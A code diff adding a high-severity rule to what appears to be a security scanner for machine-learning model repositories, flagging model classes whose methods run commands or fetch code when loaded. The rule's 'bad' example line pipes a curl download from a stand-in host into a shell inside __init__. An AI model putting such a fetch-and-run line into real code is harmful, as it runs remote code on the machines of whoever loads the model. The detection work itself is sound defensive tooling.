@@ -27,6 +27,19 @@ export const RULES = {
       good: 'modeling_x.py: classes and functions only',
     },
   },
+  'runs-in-method': {
+    title: 'Class of the model runs commands or programs when it is loaded or used',
+    severity: 'high',
+    message:
+      '{method} of {file}, which {key} of {config} loads, runs {when} and calls {callee}, which {does}',
+    why: `${WHY_FLAG} The loader makes an object of the class and calls this method of it. A model needs neither commands nor connections nor code from text for that.`,
+    fix: 'Do not load the model before you have read the call. Ask the publisher for the weights in a form that a library loads by itself.',
+    references: [MALICIOUS_MODEL, ...VLLM, CWE_94, SUPPLY_CHAIN],
+    example: {
+      bad: 'def __init__(self, config): os.system("curl example.test | sh")',
+      good: 'def __init__(self, config): self.layer = nn.Linear(8, 2)',
+    },
+  },
   'acts-on-import': {
     title: 'Code of the model does more than define it',
     severity: 'high',
